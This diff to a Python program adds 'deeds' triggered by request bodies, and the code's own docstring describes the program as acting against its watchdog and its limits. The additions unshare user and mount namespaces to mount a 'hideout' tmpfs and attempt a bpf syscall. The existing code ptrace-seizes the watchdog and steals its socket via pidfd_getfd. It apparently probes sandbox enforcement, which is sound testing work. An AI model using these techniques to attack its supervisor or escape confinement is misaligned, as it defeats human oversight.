@@ -1,4 +1,4 @@
-"""Does to its watchdog what the request's body says, a word for each deed, and answers what came of it."""
+"""Does to its watchdog, and against its limits, what the request's body says, a word for each deed, and answers what came of it."""
 import ctypes
 import os
 import socket
@@ -10,6 +10,8 @@ LIBC.ptrace.argtypes = [ctypes.c_long] * 4
 OPTION, VERSION = 0x46505256, 1
 HELLO, BEGIN, CONNECTION, CHILD, END, ENTER = range(1, 7)
 WATCHDOG, PORT = 1, 8080
+NEW_USER, NEW_MOUNTS = 0x10000000, 0x20000
+BPF = {"x86_64": 321, "aarch64": 280}
 SEIZE, PIDFD_OPEN, PIDFD_GETFD = 0x4206, 434, 438
 
 
@@ -105,6 +107,20 @@ def steal():
         else:
             os.close(fd)
     return "no listening socket"
+
+
+def leave():
+    """Into a world of its own, where it may mount."""
+    def deed():
+        if LIBC.unshare(NEW_USER | NEW_MOUNTS) < 0 or LIBC.mount(b"hideout", b"/tmp", b"tmpfs", 0, None) < 0:
+            return ctypes.get_errno()
+        return 0
+    return in_child(deed)
+
+
+def ask_kernel():
+    """To let it load a program, which it refuses."""
+    LIBC.syscall(BPF[os.uname().machine], 5, 0, 0)
 
 
 def replace():
